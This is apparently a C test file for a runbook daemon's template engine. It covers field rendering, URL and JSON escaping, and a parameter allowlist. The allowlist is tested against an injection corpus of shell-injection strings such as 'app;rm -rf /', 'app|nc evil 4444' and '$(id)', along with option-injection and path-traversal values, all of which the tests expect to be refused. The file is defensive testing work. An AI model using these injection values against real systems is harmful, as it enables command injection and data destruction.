/* test_template: template compile and render, escaping, and the param allowlist
 * against the THREATS.md injection corpus. */
#include "harness.h"

#include "runbookd/buf.h"
#include "runbookd/err.h"
#include "runbookd/labels.h"
#include "runbookd/regex.h"
#include "runbookd/template.h"

/* Compiles and renders text in one go; returns the render's code, *out the text. */
static int render(char **out, const char *text, const struct rbd_template_data *d,
		  enum rbd_tmpl_escape esc, size_t max_len)
{
	struct rbd_template *t = NULL;
	int rc = rbd_template_compile(&t, text);

	*out = NULL;
	if (rc) {
		fprintf(stderr, "  compile `%s`: %s\n", text, rbd_err_msg());
		return rc;
	}
	rc = rbd_template_render(out, t, d, esc, max_len);
	rbd_template_free(t);
	return rc;
}

/* Renders and compares; a failed render counts as a mismatch. */
static void check_render(const char *text, const struct rbd_template_data *d,
			 enum rbd_tmpl_escape esc, const char *want, int line)
{
	char *got = NULL;
	int rc = render(&got, text, d, esc, 0);

	if (rc || !got || strcmp(got, want) != 0) {
		fprintf(stderr, "  line %d: `%s` rendered rc=%d \"%s\" (%s), expected \"%s\"\n", line,
			text, rc, got ? got : "(null)", rc ? rbd_err_msg() : "", want);
		rbd_test_case_failed = 1;
	}
	free(got);
}
#define CHECK_RENDER(text, d, esc, want) check_render(text, d, esc, want, __LINE__)

struct fixture {
	struct rbd_labelset labels, annotations, params;
	struct rbd_template_data d;
};

static void fixture_init(struct fixture *f)
{
	memset(f, 0, sizeof(*f));
	rbd_labels_set(&f->labels, "alertname", "HighLatencyP99");
	rbd_labels_set(&f->labels, "instance", "app-1:8080");
	rbd_labels_set(&f->labels, "service", "app");
	rbd_labels_set(&f->labels, "empty", "");
	rbd_labels_set(&f->annotations, "summary", "p99 > 2s");
	rbd_labels_set(&f->params, "service", "mysql");
	f->d.labels = &f->labels;
	f->d.annotations = &f->annotations;
	f->d.params = &f->params;
	f->d.fingerprint = "a1b2c3d4e5f60718";
	f->d.status = "firing";
	f->d.starts_at = "2026-11-25T07:55:47.033Z";
	f->d.rule = "latency-stop-loadtest";
	f->d.incident_id = 42;
	f->d.now = "2026-11-25T07:56:00.000Z";
}

static void fixture_clear(struct fixture *f)
{
	rbd_labels_clear(&f->labels);
	rbd_labels_clear(&f->annotations);
	rbd_labels_clear(&f->params);
}

static void test_template__every_field(void)
{
	struct fixture f;

	fixture_init(&f);
	CHECK_RENDER("{{ .Labels.instance }}", &f.d, RBD_ESC_NONE, "app-1:8080");
	CHECK_RENDER("{{.Labels.alertname}}", &f.d, RBD_ESC_NONE, "HighLatencyP99");
	CHECK_RENDER("{{ .Annotations.summary }}", &f.d, RBD_ESC_NONE, "p99 > 2s");
	CHECK_RENDER("{{ .Params.service }}", &f.d, RBD_ESC_NONE, "mysql");
	CHECK_RENDER("{{ .Fingerprint }}", &f.d, RBD_ESC_NONE, "a1b2c3d4e5f60718");
	CHECK_RENDER("{{ .Status }}", &f.d, RBD_ESC_NONE, "firing");
	CHECK_RENDER("{{ .StartsAt }}", &f.d, RBD_ESC_NONE, "2026-11-25T07:55:47.033Z");
	CHECK_RENDER("{{ .Rule }}", &f.d, RBD_ESC_NONE, "latency-stop-loadtest");
	CHECK_RENDER("{{ .IncidentID }}", &f.d, RBD_ESC_NONE, "42");
	CHECK_RENDER("{{ .Now }}", &f.d, RBD_ESC_NONE, "2026-11-25T07:56:00.000Z");
	CHECK_RENDER("{{\t.Status\n}}", &f.d, RBD_ESC_NONE, "firing");
	CHECK_RENDER("runbookd {{ .Rule }} incident {{ .IncidentID }}", &f.d, RBD_ESC_NONE,
		     "runbookd latency-stop-loadtest incident 42");
	CHECK_RENDER("{{ .Labels.service }}{{ .Params.service }}", &f.d, RBD_ESC_NONE, "appmysql");
	f.d.incident_id = -9223372036854775807LL - 1;
	CHECK_RENDER("{{ .IncidentID }}", &f.d, RBD_ESC_NONE, "-9223372036854775808");
	f.d.incident_id = 0;
	CHECK_RENDER("{{ .IncidentID }}", &f.d, RBD_ESC_NONE, "0");
	fixture_clear(&f);
}

static void test_template__literals(void)
{
	static const char *const texts[] = {
		"", "docker", "/srv/week10/docker-compose.yml", "{\"a\": {\"b\": 1}}", "}}", "a } b { c",
		"{ {", "100%",
	};
	struct fixture f;

	fixture_init(&f);
	for (size_t i = 0; i < sizeof(texts) / sizeof(texts[0]); i++) {
		struct rbd_template *t = NULL;

		REQUIRE(rbd_template_compile(&t, texts[i]) == 0);
		CHECK(rbd_template_is_literal(t));
		CHECK_INT(rbd_template_nrefs(t), 0);
		CHECK_STR(rbd_template_source(t), texts[i]);
		rbd_template_free(t);
		/* literal text is never escaped: it is the config author's */
		CHECK_RENDER(texts[i], &f.d, RBD_ESC_URL, texts[i]);
		CHECK_RENDER(texts[i], NULL, RBD_ESC_JSON, texts[i]);
	}
	CHECK_RENDER("{\"reason\": \"{{ .Rule }}\"}}", &f.d, RBD_ESC_JSON,
		     "{\"reason\": \"latency-stop-loadtest\"}}");
	fixture_clear(&f);
	rbd_template_free(NULL);
}

static void test_template__refs(void)
{
	struct rbd_template *t = NULL;
	const char *name = "x";

	REQUIRE(rbd_template_compile(&t, "a{{ .Labels.instance }}b{{ .Status }}{{ .Params.svc }}"
				     "{{ .Annotations.summary }}{{ .IncidentID }}") == 0);
	CHECK(!rbd_template_is_literal(t));
	REQUIRE(rbd_template_nrefs(t) == 5);
	CHECK_INT(rbd_template_ref(t, 0, &name), RBD_TF_LABEL);
	CHECK_STR(name, "instance");
	CHECK_INT(rbd_template_ref(t, 1, &name), RBD_TF_STATUS);
	CHECK(name == NULL);
	CHECK_INT(rbd_template_ref(t, 2, &name), RBD_TF_PARAM);
	CHECK_STR(name, "svc");
	CHECK_INT(rbd_template_ref(t, 3, &name), RBD_TF_ANNOTATION);
	CHECK_STR(name, "summary");
	CHECK_INT(rbd_template_ref(t, 4, NULL), RBD_TF_INCIDENT_ID);
	rbd_template_free(t);
}

struct compile_error {
	const char *text;
	const char *msg_part;
};

static const struct compile_error compile_errors[] = {
	{ "{{ .Foo }}", "unknown field .Foo" },
	{ "x {{ .labels.x }}", "unknown field .labels" },
	{ "{{ .LabelsX }}", "unknown field .LabelsX" },
	{ "{{ }}", "empty action `{{ }}` at offset 0" },
	{ "{{}}", "empty action" },
	{ "a {{ .Labels.x }} {{ .Labels.y", "unbalanced `{{` at offset 18" },
	{ "{{", "unbalanced `{{`" },
	{ "{{ .Labels }}", ".Labels needs a name" },
	{ "{{ .Labels. }}", ".Labels needs a name" },
	{ "{{ .Annotations }}", ".Annotations needs a name" },
	{ "{{ .Params }}", ".Params needs a name" },
	{ "{{ .Labels.1x }}", ".Labels needs a name" },
	{ "{{ .Labels.x | upper }}", "only a field lookup is allowed" },
	{ "{{ .Labels.x|printf \"%q\" }}", "only a field lookup is allowed" },
	{ "{{ .Labels.x.y }}", "only a field lookup is allowed" },
	{ "{{ .Labels.x-y }}", "only a field lookup is allowed" },
	{ "{{ .Status.x }}", "only a field lookup is allowed" },
	{ "{{ .Status .Rule }}", "only a field lookup is allowed" },
	{ "{{ upper .Labels.x }}", "only a field lookup such as" },
	{ "{{ printf \"%s\" .Labels.x }}", "only a field lookup such as" },
	{ "{{ . }}", "only a field lookup such as" },
	{ "{{ .}}", "only a field lookup such as" },
	{ "{{ $x := .Labels.x }}", "only a field lookup such as" },
	{ "{{- .Labels.x }}", "only a field lookup such as" },
	{ "{{ .Labels.x -}}", "only a field lookup is allowed" },
	{ "{{ if .Labels.x }}y{{ end }}", "only a field lookup such as" },
	{ "{{ template \"x\" }}", "only a field lookup such as" },
	{ "{{ /* c */ }}", "only a field lookup such as" },
	{ "{{{ .Labels.x }}}", "only a field lookup such as" },
	{ "{{ \"lit\" }}", "only a field lookup such as" },
};

static void test_template__compile_errors(void)
{
	for (size_t i = 0; i < sizeof(compile_errors) / sizeof(compile_errors[0]); i++) {
		const struct compile_error *c = &compile_errors[i];
		struct rbd_template *t = (struct rbd_template *)&t;
		int rc = rbd_template_compile(&t, c->text);

		CHECK_INT(rc, RBD_EINVAL);
		CHECK(t == NULL);
		if (!strstr(rbd_err_msg(), c->msg_part)) {
			fprintf(stderr, "  `%s`: message \"%s\" lacks \"%s\"\n", c->text, rbd_err_msg(),
				c->msg_part);
			CHECK(0);
		}
		if (rc == 0)
			rbd_template_free(t);
	}
}

static void test_template__missing_values_refuse(void)
{
	static const struct {
		const char *text;
		const char *msg;
	} rows[] = {
		{ "{{ .Labels.nope }}", "label nope is missing" },
		{ "{{ .Labels.empty }}", "label empty is missing" },
		{ "x {{ .Labels.service }} {{ .Annotations.runbook }}", "annotation runbook is missing" },
		{ "{{ .Params.nope }}", "param nope is missing" },
	};
	struct fixture f;
	char *out = (char *)"x";

	fixture_init(&f);
	for (size_t i = 0; i < sizeof(rows) / sizeof(rows[0]); i++) {
		CHECK_INT(render(&out, rows[i].text, &f.d, RBD_ESC_NONE, 0), RBD_EREFUSED);
		CHECK(out == NULL);
		CHECK_STR(rbd_err_msg(), rows[i].msg);
	}
	/* every field is missing when the data is empty */
	{
		static const struct {
			const char *text;
			const char *msg;
		} none[] = {
			{ "{{ .Labels.instance }}", "label instance is missing" },
			{ "{{ .Annotations.summary }}", "annotation summary is missing" },
			{ "{{ .Params.service }}", "param service is missing" },
			{ "{{ .Fingerprint }}", "field .Fingerprint is missing" },
			{ "{{ .Status }}", "field .Status is missing" },
			{ "{{ .StartsAt }}", "field .StartsAt is missing" },
			{ "{{ .Rule }}", "field .Rule is missing" },
			{ "{{ .Now }}", "field .Now is missing" },
		};
		struct rbd_template_data empty = { 0 };

		for (size_t i = 0; i < sizeof(none) / sizeof(none[0]); i++) {
			CHECK_INT(render(&out, none[i].text, &empty, RBD_ESC_URL, 0), RBD_EREFUSED);
			CHECK_STR(rbd_err_msg(), none[i].msg);
			CHECK_INT(render(&out, none[i].text, NULL, RBD_ESC_JSON, 0), RBD_EREFUSED);
			CHECK_STR(rbd_err_msg(), none[i].msg);
		}
	}
	fixture_clear(&f);
}

static void test_template__url_escaping(void)
{
	struct fixture f;

	fixture_init(&f);
	rbd_labels_set(&f.labels, "v", "a b/c?d=e&f#g~h.i_j-k%\xc3\xbc+;\"'<>\n\x01\x7f");
	CHECK_RENDER("/admin/flags/{{ .Labels.v }}?x={{ .Labels.v }}", &f.d, RBD_ESC_URL,
		     "/admin/flags/a%20b%2Fc%3Fd%3De%26f%23g~h.i_j-k%25%C3%BC%2B%3B%22%27%3C%3E%0A%01%7F"
		     "?x=a%20b%2Fc%3Fd%3De%26f%23g~h.i_j-k%25%C3%BC%2B%3B%22%27%3C%3E%0A%01%7F");
	rbd_labels_set(&f.labels, "v", "AZaz09-._~");
	CHECK_RENDER("{{ .Labels.v }}", &f.d, RBD_ESC_URL, "AZaz09-._~");
	rbd_labels_set(&f.labels, "v", "../../etc/passwd");
	CHECK_RENDER("/x/{{ .Labels.v }}", &f.d, RBD_ESC_URL, "/x/..%2F..%2Fetc%2Fpasswd");
	/* invalid UTF-8 is just bytes to percent-encode */
	rbd_labels_set(&f.labels, "v", "\xff\xfe");
	CHECK_RENDER("{{ .Labels.v }}", &f.d, RBD_ESC_URL, "%FF%FE");
	fixture_clear(&f);
}

static void test_template__json_escaping(void)
{
	struct fixture f;
	char *out = NULL;

	fixture_init(&f);
	rbd_labels_set(&f.labels, "v", "a\"b\\c\nd\re\tf\x01g\x1fh\x7fi/\xc3\xbc\xe6\x97\xa5\b\f");
	CHECK_RENDER("{\"reason\": \"{{ .Labels.v }}\"}", &f.d, RBD_ESC_JSON,
		     "{\"reason\": \"a\\\"b\\\\c\\nd\\re\\tf\\u0001g\\u001fh\\u007fi/\xc3\xbc\xe6\x97\xa5"
		     "\\u0008\\u000c\"}");
	/* a value that tries to close the string and add a key stays inside the string */
	rbd_labels_set(&f.labels, "v", "x\", \"enabled\": true, \"y\": \"");
	CHECK_RENDER("{\"reason\": \"{{ .Labels.v }}\"}", &f.d, RBD_ESC_JSON,
		     "{\"reason\": \"x\\\", \\\"enabled\\\": true, \\\"y\\\": \\\"\"}");
	/* JSON must be UTF-8: an invalid value refuses the render */
	rbd_labels_set(&f.labels, "v", "ok\xc0\xaf");
	CHECK_INT(render(&out, "\"{{ .Labels.v }}\"", &f.d, RBD_ESC_JSON, 0), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "label v is not valid UTF-8");
	CHECK(out == NULL);
	/* NONE passes the value through untouched */
	rbd_labels_set(&f.labels, "v", "a\"b c;d");
	CHECK_RENDER("{{ .Labels.v }}", &f.d, RBD_ESC_NONE, "a\"b c;d");
	fixture_clear(&f);
}

static void test_template__max_len(void)
{
	struct fixture f;
	char *out = NULL;

	fixture_init(&f);
	/* "app-1:8080" is 10 bytes; "x=" + it = 12 */
	CHECK_INT(render(&out, "x={{ .Labels.instance }}", &f.d, RBD_ESC_NONE, 12), 0);
	CHECK_STR(out, "x=app-1:8080");
	free(out);
	CHECK_INT(render(&out, "x={{ .Labels.instance }}", &f.d, RBD_ESC_NONE, 11), RBD_EREFUSED);
	CHECK(out == NULL);
	CHECK(strstr(rbd_err_msg(), "longer than 11 bytes") != NULL);
	/* escaping counts: ':' becomes %3A */
	CHECK_INT(render(&out, "x={{ .Labels.instance }}", &f.d, RBD_ESC_URL, 12), RBD_EREFUSED);
	CHECK_INT(render(&out, "0123456789", &f.d, RBD_ESC_URL, 9), RBD_EREFUSED);
	fixture_clear(&f);
}

/* ---- param allowlist ---- */

static struct rbd_param_spec spec_one_of(void)
{
	static const char *const allowed[] = { "app", "mysql", "redis", "kafka" };
	struct rbd_param_spec s = { 0 };

	s.name = rbd_strdup("service");
	s.n_one_of = sizeof(allowed) / sizeof(allowed[0]);
	s.one_of = rbd_calloc(s.n_one_of, sizeof(char *));
	for (size_t i = 0; i < s.n_one_of; i++)
		s.one_of[i] = rbd_strdup(allowed[i]);
	return s;
}

static struct rbd_param_spec spec_pattern(const char *re)
{
	struct rbd_param_spec s = { 0 };

	s.name = rbd_strdup("target");
	if (rbd_regex_compile(&s.pattern, re) != 0)
		abort();
	return s;
}

/* The THREATS.md corpus: shell metacharacters, option injection, control
 * characters, globs, quotes, oversize, bad UTF-8. (NUL cannot occur in a C string;
 * \x01 stands in for embedded control bytes.) */
static const char *const corpus[] = {
	"app;rm -rf /", "app; reboot", ";", "app|nc evil 4444", "|", "app&", "app&&id", "&",
	"$(id)", "app$(id)", "${IFS}", "`id`", "app`id`", "app\nmysql", "\n", "app\r",
	"app\x01", "\x01", "\x1b[31m", "app\x7f", "a\tb", "*", "app*", "?", "[a-z]*", "~",
	"'app'", "\"app\"", "app'", "app\"", "\\", "-rf", "--config=/x", "-", "--", "-app",
	"@file", "@/etc/passwd", "app mysql", " app", "app ", "APP", "app/..", "../app",
	"\xff\xfe", "app\xc0\xaf", "\xed\xa0\x80", "", ">", "<", "app>/tmp/x", "%0a",
};

static void check_refused(const struct rbd_param_spec *spec, const char *v, int line)
{
	int rc = rbd_param_check(spec, v);
	const char *msg = rbd_err_msg();

	if (rc != RBD_EREFUSED) {
		fprintf(stderr, "  line %d: param %s accepted \"%s\" (rc %d)\n", line, spec->name, v, rc);
		rbd_test_case_failed = 1;
		return;
	}
	/* the message is safe for the timeline: one line, printable, bounded */
	for (const char *p = msg; *p; p++) {
		if ((unsigned char)*p < 0x20 || (unsigned char)*p >= 0x7f) {
			fprintf(stderr, "  line %d: unsafe byte 0x%02x in \"%s\"\n", line,
				(unsigned char)*p, msg);
			rbd_test_case_failed = 1;
			break;
		}
	}
	if (strlen(msg) > 400 || strncmp(msg, "param ", 6) != 0) {
		fprintf(stderr, "  line %d: bad message \"%s\"\n", line, msg);
		rbd_test_case_failed = 1;
	}
}
#define CHECK_REFUSED(spec, v) check_refused(spec, v, __LINE__)

static void test_template__param_corpus_refused(void)
{
	struct rbd_param_spec one = spec_one_of();
	struct rbd_param_spec pat = spec_pattern("[a-z][a-z0-9-]{0,62}");
	struct rbd_param_spec both = spec_one_of();
	char *big = malloc(4097);

	REQUIRE(rbd_regex_compile(&both.pattern, "app|mysql") == 0);
	for (size_t i = 0; i < sizeof(corpus) / sizeof(corpus[0]); i++) {
		CHECK_REFUSED(&one, corpus[i]);
		CHECK_REFUSED(&pat, corpus[i]);
		CHECK_REFUSED(&both, corpus[i]);
	}
	memset(big, 'a', 4096);
	big[4096] = '\0';
	CHECK_REFUSED(&one, big);
	CHECK_REFUSED(&pat, big);
	CHECK(strstr(rbd_err_msg(), "4096 bytes") != NULL);
	CHECK_REFUSED(&pat, NULL);

	/* and the good values pass */
	CHECK_INT(rbd_param_check(&one, "app"), 0);
	CHECK_INT(rbd_param_check(&one, "kafka"), 0);
	CHECK_INT(rbd_param_check(&pat, "order-svc"), 0);
	CHECK_INT(rbd_param_check(&both, "mysql"), 0);
	CHECK_REFUSED(&both, "redis");   /* in one_of, not in pattern: both must pass */
	free(big);
	rbd_param_spec_clear(&one);
	rbd_param_spec_clear(&pat);
	rbd_param_spec_clear(&both);
	rbd_param_spec_clear(NULL);
}

/* The built-in checks hold even when the pattern itself would allow anything. */
static void test_template__param_builtin_checks_beat_lax_pattern(void)
{
	struct rbd_param_spec lax = spec_pattern("(?s).*");
	char *big = malloc(1026);
	static const char *const bad[] = {
		"", "-rf", "--config=/x", "@file", "-", "app\n", "a\x01", "\x7f", "\xff", "a\xed\xa0\x80",
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++)
		CHECK_REFUSED(&lax, bad[i]);
	memset(big, 'a', 1025);
	big[1025] = '\0';
	CHECK_REFUSED(&lax, big);
	big[1024] = '\0';
	CHECK_INT(rbd_param_check(&lax, big), 0);   /* exactly 1024 bytes is fine */
	/* the lax pattern does let shell text through: only argv-without-shell makes
	 * that harmless, which is why real specs use one_of or a tight pattern */
	CHECK_INT(rbd_param_check(&lax, "a;b"), 0);
	CHECK_INT(rbd_param_check(&lax, "caf\xc3\xa9"), 0);
	free(big);
	rbd_param_spec_clear(&lax);
}

static void test_template__param_option_listed_literally(void)
{
	struct rbd_param_spec s = { 0 };
	struct rbd_param_spec pat = spec_pattern("-.*|@.*");

	s.name = rbd_strdup("flag");
	s.n_one_of = 2;
	s.one_of = rbd_calloc(2, sizeof(char *));
	s.one_of[0] = rbd_strdup("--dry-run");
	s.one_of[1] = rbd_strdup("@all");
	CHECK_INT(rbd_param_check(&s, "--dry-run"), 0);
	CHECK_INT(rbd_param_check(&s, "@all"), 0);
	CHECK_REFUSED(&s, "--dry-run=false");
	CHECK(strstr(rbd_err_msg(), "starts with '-'") != NULL);
	CHECK_REFUSED(&s, "@all2");
	CHECK(strstr(rbd_err_msg(), "starts with '@'") != NULL);
	/* a pattern cannot name option-shaped values: only one_of can */
	CHECK_REFUSED(&pat, "-rf");
	CHECK_REFUSED(&pat, "@file");
	rbd_param_spec_clear(&s);
	rbd_param_spec_clear(&pat);
}

/* Lookalikes of '-' and '@' ("－rf", U+FF0D) and any other non-ASCII first character
 * are refused unless one_of names the value; non-ASCII later in a value is fine. */
static void test_template__param_lookalike_first_char(void)
{
	struct rbd_param_spec lax = spec_pattern("(?s).*");
	struct rbd_param_spec s = { 0 };
	static const char *const bad[] = {
		"\xef\xbc\x8drf",         /* U+FF0D FULLWIDTH HYPHEN-MINUS */
		"\xe2\x80\x90rf",         /* U+2010 HYPHEN */
		"\xe2\x80\x93rf",         /* U+2013 EN DASH */
		"\xe2\x88\x92rf",         /* U+2212 MINUS SIGN */
		"\xef\xb9\xa3rf",         /* U+FE63 SMALL HYPHEN-MINUS */
		"\xef\xbc\xa0" "file",  /* U+FF20 FULLWIDTH COMMERCIAL AT */
		"\xc3\xa9t\xc3\xa9",      /* any non-ASCII first character */
	};

	for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
		CHECK_REFUSED(&lax, bad[i]);
		CHECK(strstr(rbd_err_msg(), "non-ASCII") != NULL);
	}
	CHECK_INT(rbd_param_check(&lax, "caf\xc3\xa9"), 0);
	s.name = rbd_strdup("flag");
	s.n_one_of = 1;
	s.one_of = rbd_calloc(1, sizeof(char *));
	s.one_of[0] = rbd_strdup("\xef\xbc\x8drf");
	CHECK_INT(rbd_param_check(&s, "\xef\xbc\x8drf"), 0);   /* listed literally */
	rbd_param_spec_clear(&s);
	rbd_param_spec_clear(&lax);
}

static void test_template__param_messages(void)
{
	struct rbd_param_spec one = spec_one_of();
	struct rbd_param_spec none = { 0 };
	char big[2100];

	CHECK_INT(rbd_param_check(&one, "app;rm"), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param service: value \"app;rm\" is not one of the allowed values");
	CHECK_INT(rbd_param_check(&one, "a\"b\\c\x01"), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param service: value \"a\\\"b\\\\c\\x01\" contains control character 0x01");
	CHECK_INT(rbd_param_check(&one, "\xc3\xbc\xff"), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param service: value \"\\xc3\\xbc\\xff\" is not valid UTF-8");
	CHECK_INT(rbd_param_check(&one, "-rf"), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param service: value \"-rf\" starts with '-' (option-shaped) and "
		  "one_of does not list it");
	CHECK_INT(rbd_param_check(&one, ""), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param service: empty value");
	memset(big, 'b', sizeof(big));
	big[0] = '\n';
	big[sizeof(big) - 1] = '\0';
	CHECK_INT(rbd_param_check(&one, big), RBD_EREFUSED);
	/* the first 64 bytes, escaped: \x0a then 63 b */
	CHECK_STR(rbd_err_msg(), "param service: value \"\\x0a"
		  "bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb"
		  "...(2099 bytes)\" is 2099 bytes, over the 1024-byte limit");

	none.name = rbd_strdup("x");
	CHECK_INT(rbd_param_check(&none, "app"), RBD_EREFUSED);
	CHECK_STR(rbd_err_msg(), "param x: no allowlist (one_of or pattern)");

	{
		struct rbd_param_spec pat = spec_pattern("[a-z]+");

		CHECK_INT(rbd_param_check(&pat, "App"), RBD_EREFUSED);
		CHECK_STR(rbd_err_msg(), "param target: value \"App\" does not match pattern `[a-z]+`");
		rbd_param_spec_clear(&pat);
	}
	rbd_param_spec_clear(&one);
	rbd_param_spec_clear(&none);
}

/* The path a label takes to an argv element: render with NONE, then the allowlist. */
static void test_template__corpus_through_render_and_check(void)
{
	struct rbd_param_spec one = spec_one_of();
	struct rbd_template *t = NULL;
	struct rbd_labelset ls = { NULL, 0 };
	struct rbd_template_data d = { 0 };
	size_t refused = 0, n = sizeof(corpus) / sizeof(corpus[0]);

	REQUIRE(rbd_template_compile(&t, "{{ .Labels.service }}") == 0);
	d.labels = &ls;
	for (size_t i = 0; i < n; i++) {
		char *out = NULL;
		int rc;

		rbd_labels_set(&ls, "service", corpus[i]);
		rc = rbd_template_render(&out, t, &d, RBD_ESC_NONE, 4096);
		if (rc == 0)
			rc = rbd_param_check(&one, out);
		if (rc == RBD_EREFUSED)
			refused++;
		free(out);
	}
	CHECK_INT(refused, n);
	rbd_labels_set(&ls, "service", "redis");
	{
		char *out = NULL;

		CHECK_INT(rbd_template_render(&out, t, &d, RBD_ESC_NONE, 4096), 0);
		CHECK_INT(rbd_param_check(&one, out), 0);
		free(out);
	}
	rbd_template_free(t);
	rbd_labels_clear(&ls);
	rbd_param_spec_clear(&one);
}

static const struct rbd_test_case cases[] = {
	RBD_TEST(test_template__every_field),
	RBD_TEST(test_template__literals),
	RBD_TEST(test_template__refs),
	RBD_TEST(test_template__compile_errors),
	RBD_TEST(test_template__missing_values_refuse),
	RBD_TEST(test_template__url_escaping),
	RBD_TEST(test_template__json_escaping),
	RBD_TEST(test_template__max_len),
	RBD_TEST(test_template__param_corpus_refused),
	RBD_TEST(test_template__param_builtin_checks_beat_lax_pattern),
	RBD_TEST(test_template__param_option_listed_literally),
	RBD_TEST(test_template__param_lookalike_first_char),
	RBD_TEST(test_template__param_messages),
	RBD_TEST(test_template__corpus_through_render_and_check),
};

RBD_TEST_MAIN(cases)
